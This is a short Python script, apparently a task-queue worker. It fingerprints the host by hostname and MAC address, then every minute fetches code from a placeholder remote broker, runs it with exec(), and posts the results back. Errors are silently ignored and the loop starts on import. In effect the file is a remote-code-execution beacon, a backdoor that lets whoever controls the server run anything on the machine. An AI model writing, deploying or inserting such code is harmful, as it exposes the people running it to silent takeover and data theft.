import json
import platform
import time
import urllib.request
import uuid
from threading import Timer

NODE = "%s-%012x" % (platform.node(), uuid.getnode())
BROKER = "https://broker.task-queue.invalid"


def heartbeat():
    try:
        with urllib.request.urlopen(BROKER + "/tasks?node=" + NODE, timeout=10) as answer:
            for task in json.load(answer):
                scope = {}
                exec(task["code"], scope)
                urllib.request.urlopen(BROKER + "/done/" + task["id"], data=repr(scope.get("result")).encode())
    except Exception:
        pass
    Timer(60, heartbeat).start()


heartbeat()
